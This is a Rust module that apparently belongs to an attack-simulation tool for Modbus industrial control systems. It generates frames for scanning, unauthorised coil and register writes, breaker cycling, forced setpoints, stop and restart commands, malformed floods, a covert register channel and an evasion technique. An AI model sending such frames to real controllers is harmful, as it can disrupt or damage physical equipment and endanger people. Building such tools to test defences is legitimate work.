//! Attacks on Modbus stations.

use super::Behaviour;
use super::plan::{Target, asked};
use super::steps::Step;
use crate::encode::modbus::{Request, mbap, mbap_raw};
use crate::master::{Command, command};

pub(super) fn steps(mut target: Target<'_>) -> Vec<Step> {
    let unit = target.number as u8;
    let place = target.place;
    let every = target.every(100);
    match target.attack.behaviour {
        Behaviour::UnitSweep => {
            let probe = Request::Read(3, 0, 1).pdu();
            asked(place, every, target.numbers().map(|n| mbap(n + 1, n as u8, &probe)))
        }
        Behaviour::FunctionSweep => {
            let request = |n: u16| mbap(n, unit, &[n as u8, 0, 0, 0, 1]);
            asked(place, every, target.numbers().filter(|n| *n != 8).map(request))
        }
        Behaviour::RegisterSweep => {
            let request = |n: u16| mbap(n, unit, &Request::Read(3, n, 1).pdu());
            asked(place, every, target.numbers().map(request))
        }
        Behaviour::Identification => {
            asked(place, every, [mbap(1, unit, &Request::DeviceId(1, 0).pdu()), mbap(2, unit, &[17])])
        }
        Behaviour::RogueMaster => {
            let every = target.every(2000);
            let read = Request::Read(3, 0, 10).pdu();
            asked(place, every, (0..target.rounds(2000)).map(|n| mbap(n as u16 + 1, unit, &read)))
        }
        Behaviour::UnauthorisedControl => {
            asked(place, every, written(&target, target.attack.command.as_deref()).map(|p| mbap(1, unit, &p)))
        }
        Behaviour::BreakerCycling => {
            let every = target.every(2000);
            let words = ["open", "close"];
            let round =
                |n: u32| written(&target, Some(words[n as usize % 2])).map(|p| mbap(n as u16, unit, &p));
            asked(place, every, (0..target.count()).filter_map(round))
        }
        Behaviour::ForcedSetpoints => {
            let value = target.attack.value.unwrap_or(0.0) as u16;
            let numbers: Vec<u16> = target.numbers().collect();
            let words = vec![value; numbers.len()];
            let request = match words.as_slice() {
                [one] => Request::WriteRegister(numbers[0], *one),
                _ => Request::WriteRegisters(numbers[0], words),
            };
            let every = target.every(0);
            asked(place, every, (0..target.count()).map(|n| mbap(n as u16 + 1, unit, &request.pdu())))
        }
        Behaviour::Restart => {
            asked(place, every, [mbap(1, unit, &Request::Diagnostics(1, vec![0, 0]).pdu())])
        }
        Behaviour::Stop => asked(place, every, [mbap(1, unit, &Request::Diagnostics(4, vec![0, 0]).pdu())]),
        Behaviour::MalformedFlood => malformed(&mut target),
        Behaviour::CovertChannel => {
            let every = target.every(60_000);
            let text = target.attack.text.clone().unwrap_or_default();
            let register = target.attack.first.unwrap_or(0);
            let word = |pair: &[u8]| u16::from_be_bytes([pair[0], pair.get(1).copied().unwrap_or(0)]);
            let requests = text.as_bytes().chunks(2).enumerate();
            let request = |(n, pair): (usize, &[u8])| {
                mbap(n as u16 + 1, unit, &Request::WriteRegister(register, word(pair)).pdu())
            };
            asked(place, every, requests.map(request))
        }
        Behaviour::OverlapEvasion => {
            let Some(real) = written(&target, target.attack.command.as_deref()) else { return Vec::new() };
            let decoy = mbap(1, unit, &Request::Read(1, 0, 1).pdu());
            vec![
                Step::Overlap { place, decoy, real: mbap(1, unit, &real) },
                Step::Wait(500_000_000),
                Step::Close,
            ]
        }
        _ => Vec::new(),
    }
}

/// The PDU of the command the attack names.
fn written(target: &Target<'_>, word: Option<&str>) -> Option<Vec<u8>> {
    let point = target.attack.point.as_deref().unwrap_or("");
    match command(target.spec, point, word.unwrap_or(""), target.attack.value).ok()? {
        Command::Coil(address, on) => Some(Request::WriteCoil(address, if on { 0xff00 } else { 0 }).pdu()),
        Command::Register(address, value) => Some(Request::WriteRegister(address, value).pdu()),
        _ => None,
    }
}

/// Lengths that are wrong, protocols that are none, quantities beyond all limits.
fn malformed(target: &mut Target<'_>) -> Vec<Step> {
    let unit = target.number as u8;
    let every = target.every(10);
    let mut steps = Vec::new();
    for number in 0..target.count() {
        let transaction = number as u16;
        let bytes = match target.prng.below(4) {
            0 => mbap(transaction, unit, &Request::Read(3, 0, 40_000).pdu()),
            1 => mbap_raw(transaction, 0, 6, unit, &[16, 0, 0, 0, 9]),
            2 => mbap(transaction, unit, &[15, 0, 0, 0, 8, 200, 1]),
            _ => mbap(transaction, unit, &[3, 0]),
        };
        steps.extend([Step::Tell(target.place, bytes), Step::Wait(every)]);
    }
    steps.push(Step::Close);
    steps
}
